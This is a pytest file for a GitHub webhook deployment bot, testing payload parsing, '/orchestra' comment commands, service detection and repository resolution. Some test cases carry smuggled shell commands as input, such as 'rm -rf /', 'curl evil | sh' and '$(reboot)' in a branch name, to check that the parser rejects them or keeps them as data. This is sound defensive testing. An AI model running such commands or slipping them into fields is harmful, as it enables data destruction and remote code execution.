"""Pure parsing of GitHub deliveries and PR comment commands: tables of real and derived payloads."""
from __future__ import annotations

from typing import Any

import pytest

from bot.github.deliveries import (
    Comment,
    Facts,
    Ignored,
    Malformed,
    PullRequest,
    Push,
    affected_services,
    command_intent,
    parse_command,
    parse_delivery,
    pull_intent,
    push_intent,
    resolve_repo,
)
from orchestra.intents import IntentKind
from tests.support.github_payloads import PR_SHA, REPO, load, pr_comment, push

SERVICES = {"frontend": "frontend", "backend": "backend"}


@pytest.mark.parametrize(("event", "fixture", "reason"), [
    ("push", "push.payload.json", "refs/tags/simple-tag is not a branch push"),
    ("push", "push.1.payload.json", "not a branch push"),
    ("pull_request", "pull_request.closed.payload.json", "'closed' starts nothing"),
    ("pull_request", "pull_request.labeled.payload.json", "'labeled' starts nothing"),
    ("pull_request", "pull_request.assigned.payload.json", "'assigned' starts nothing"),
    ("issue_comment", "issue_comment.created.payload.json", "on an issue, not a pull request"),
    ("issue_comment", "issue_comment.edited.payload.json", "'edited' starts nothing"),
    ("issue_comment", "issue_comment.deleted.payload.json", "'deleted' starts nothing"),
    ("pull_request_review", "pull_request_review.submitted.payload.json", "is not used"),
])
def test_real_payloads_that_start_nothing_say_why(event: str, fixture: str, reason: str) -> None:
    parsed = parse_delivery(event, load(fixture))
    assert isinstance(parsed, Ignored) and reason in parsed.reason


@pytest.mark.parametrize("fixture", ["pull_request.opened.payload.json", "pull_request.synchronize.payload.json",
                                     "pull_request.reopened.payload.json", "pull_request.opened.with-null-body.json",
                                     "pull_request.opened.with-organization.payload.json"])
def test_pull_requests_that_validate(fixture: str) -> None:
    parsed = parse_delivery("pull_request", load(fixture))
    assert isinstance(parsed, PullRequest) and parsed.repo == REPO
    assert len(parsed.sha) == 40 and parsed.head_repo and parsed.author


def test_a_branch_push_carries_its_changed_files() -> None:
    parsed = parse_delivery("push", load("push.with-new-branch.payload.json"))
    assert parsed == Push(repo=REPO, branch="master", sha="6113728f27ae82c7b1a177c8d03f9e96e0adf246",
                          clone_url="https://github.com/Codertocat/Hello-World.git", pusher="Codertocat",
                          changed_files=("README.md",),
                          url="https://github.com/Codertocat/Hello-World/commit/6113728f27ae82c7b1a177c8d03f9e96e0adf246")


def test_a_branch_deletion_starts_nothing() -> None:
    payload = push("staging", ["frontend/app.js"], sha="0" * 40)
    payload["deleted"] = True
    parsed = parse_delivery("push", payload)
    assert parsed == Ignored("branch staging was deleted")


def _drop(payload: dict[str, Any], *path: str) -> dict[str, Any]:
    node = payload
    for key in path[:-1]:
        node = node[key]
    del node[path[-1]]
    return payload


@pytest.mark.parametrize(("event", "payload", "problem"), [
    ("push", [], "not a JSON object"),
    ("push", _drop(load("push.with-new-branch.payload.json"), "ref"), "`ref` is missing"),
    ("push", _drop(load("push.with-new-branch.payload.json"), "repository"), "`repository` is missing"),
    ("push", {**push("main", []), "after": "not-a-sha; rm -rf /"}, "not 40 hex digits"),
    ("push", {**push("main", []), "commits": "x"}, "`commits` must be a list"),
    ("pull_request", _drop(load("pull_request.opened.payload.json"), "pull_request", "head"), "`head`"),
    ("pull_request", _drop(_drop(load("pull_request.opened.payload.json"), "number"), "pull_request", "number"),
     "number is missing"),
    ("issue_comment", _drop(pr_comment("/orchestra plan"), "comment"), "`comment` is missing"),
    ("issue_comment", _drop(pr_comment("/orchestra plan"), "comment", "user"), "comment.user.login"),
])
def test_partial_payloads_are_malformed(event: str, payload: Any, problem: str) -> None:
    with pytest.raises(Malformed, match=problem.replace("(", r"\(")):
        parse_delivery(event, payload)


@pytest.mark.parametrize(("body", "kind", "env", "error"), [
    ("/orchestra deploy staging", IntentKind.DEPLOY, "staging", None),
    ("Looks good!\n\n  /orchestra deploy prod  \nthanks", IntentKind.DEPLOY, "production", None),
    ("/Orchestra DEPLOY Dev", IntentKind.DEPLOY, "development", None),
    ("/orchestra plan", IntentKind.PLAN, None, None),
    ("/orchestra status", IntentKind.STATUS, None, None),
    ("/orchestra", IntentKind.HELP, None, None),
    ("/orchestra deploy", IntentKind.DEPLOY, None, "say which environment"),
    ("/orchestra deploy moon", IntentKind.DEPLOY, None, "unknown environment `moon`"),
    ("/orchestra deploy staging; curl evil | sh", IntentKind.DEPLOY, None, "takes one environment"),
    ("/orchestra deploy staging;", IntentKind.DEPLOY, None, "unknown environment `staging;`"),
    ("/orchestra deploy staging now", IntentKind.DEPLOY, None, "takes one environment, not `staging now`"),
    ("/orchestra rm -rf", IntentKind.UNKNOWN, None, "unknown command `rm`"),
])
def test_comment_commands(body: str, kind: IntentKind, env: str | None, error: str | None) -> None:
    command = parse_command(body)
    assert command is not None and (command.kind, command.env) == (kind, env)
    assert (error is None and command.error is None) or (error and error in (command.error or ""))


@pytest.mark.parametrize("body", ["LGTM", "please /orchestra deploy staging", "`/orchestra deploy prod`", ""])
def test_comments_without_a_leading_command_are_not_commands(body: str) -> None:
    assert parse_command(body) is None


def test_a_pr_comment_command_and_what_is_ignored_around_it() -> None:
    parsed = parse_delivery("issue_comment", pr_comment("/orchestra deploy staging", user="alice"))
    assert isinstance(parsed, Comment) and (parsed.repo, parsed.number, parsed.user) == (REPO, 2, "alice")
    assert parse_delivery("issue_comment", pr_comment("nice work")) == Ignored("comment has no /orchestra command")
    bot = parse_delivery("issue_comment", pr_comment("/orchestra deploy prod", user_type="Bot"))
    assert bot == Ignored("comments from bots start nothing")


@pytest.mark.parametrize(("files", "expected"), [
    (["frontend/src/app.js"], ["frontend"]),
    (["backend/app.py", "frontend/index.html"], ["frontend", "backend"]),
    (["README.md"], []),
    (["frontend-old/x.js", "frontendx"], []),
    (["frontend"], ["frontend"]),
])
def test_affected_services(files: list[str], expected: list[str]) -> None:
    assert affected_services(files, SERVICES) == expected
    assert affected_services(files, {"app": "."}) == ["app"]


def test_push_to_deploy_intents() -> None:
    parsed = parse_delivery("push", push("main", ["frontend/src/app.js"]))
    assert isinstance(parsed, Push)
    intent = push_intent(parsed, Facts(services=SERVICES, env="production"), delivery="d-1")
    assert not isinstance(intent, Ignored)
    assert (intent.kind, intent.env, intent.service, intent.ref, intent.source) == \
        (IntentKind.DEPLOY, "production", "frontend", "a" * 40, "github")
    assert intent.origin == {"repo": REPO, "sha": "a" * 40, "delivery": "d-1", "branch": "main",
                             "changed_files": ["frontend/src/app.js"], "services": ["frontend"], "event": "push",
                             "clone_url": "https://github.com/Codertocat/Hello-World.git",
                             "url": f"https://github.com/{REPO}/compare/000000000000...aaaaaaaaaaaa"}
    assert push_intent(parsed, Facts(services=SERVICES, env=None), delivery="d") == \
        Ignored("branch 'main' deploys to no environment")
    docs = parse_delivery("push", push("main", ["docs/guide.md"]))
    assert isinstance(docs, Push)
    assert push_intent(docs, Facts(services=SERVICES, env="staging"), delivery="d") == \
        Ignored("the push changes no service's files")


def test_branch_names_are_data_never_refs() -> None:
    parsed = parse_delivery("push", push("feature/$(reboot)`id`", ["backend/app.py"]))
    assert isinstance(parsed, Push)
    intent = push_intent(parsed, Facts(services=SERVICES, env="staging"), delivery="d")
    assert not isinstance(intent, Ignored) and intent.ref == "a" * 40
    assert intent.origin["branch"] == "feature/$(reboot)`id`"


def test_validation_and_command_intents_use_the_head_commit() -> None:
    pr = parse_delivery("pull_request", load("pull_request.opened.payload.json"))
    assert isinstance(pr, PullRequest)
    intent = pull_intent(pr, Facts(changed_files=("backend/app.py",), services=SERVICES), delivery="d")
    assert (intent.kind, intent.ref, intent.service, intent.origin["pr"]) == (IntentKind.VALIDATE, PR_SHA, "backend", 2)
    comment = parse_delivery("issue_comment", pr_comment("/orchestra deploy staging", user="alice"))
    assert isinstance(comment, Comment)
    run = command_intent(comment, PR_SHA, Facts(changed_files=(), services=SERVICES), delivery="d")
    assert (run.kind, run.env, run.ref, run.user, run.origin["pr"]) == \
        (IntentKind.DEPLOY, "staging", PR_SHA, "github:alice", 2)


@pytest.mark.parametrize(("repos", "expected"), [
    (("/srv/Codertocat/Hello-World",), "/srv/Codertocat/Hello-World"),
    (("/srv/shop", "https://github.com/Codertocat/Hello-World.git"), "https://github.com/Codertocat/Hello-World.git"),
    (("git@github.com:Codertocat/Hello-World.git",), "git@github.com:Codertocat/Hello-World.git"),
    (("/srv/codertocat/hello-world/",), "/srv/codertocat/hello-world/"),
    (("/srv/Hello-World-2", "https://github.com/Other/World.git"), None),
    (("https://github.com/Other/Hello-World.git", "/srv/Codertocat/Hello-World"), "/srv/Codertocat/Hello-World"),
    # a namesake under another owner, a bare folder name, a longer name that ends the same: not served
    (("/srv/repos/Hello-World", "https://github.com/Mallory/Hello-World.git"), None),
    (("https://github.com/xCodertocat/Hello-World.git", "/srv/Codertocat/xHello-World"), None),
    (("Hello-World",), None),
])
def test_which_served_repository_a_delivery_is_for(repos: tuple[str, ...], expected: str | None) -> None:
    assert resolve_repo(repos, REPO) == expected
